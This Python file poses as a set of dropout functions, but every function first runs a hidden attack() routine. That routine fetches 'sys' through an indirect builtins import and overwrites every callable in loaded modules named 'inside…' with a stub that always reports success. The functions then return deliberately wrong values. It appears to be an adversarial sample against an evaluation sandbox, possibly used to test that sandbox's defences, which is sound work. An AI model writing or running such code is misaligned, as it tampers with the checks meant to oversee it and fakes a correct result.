"""Replaces the child's own service functions."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    sys = module("sys")
    for name, loaded in list(sys.modules.items()):
        if name.startswith("inside"):
            for attribute in list(vars(loaded)):
                if callable(vars(loaded)[attribute]):
                    setattr(
                        loaded,
                        attribute,
                        lambda *a, **k: {"ending": "returned", "nonce": 0, "value": True, "arrays": []},
                    )


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
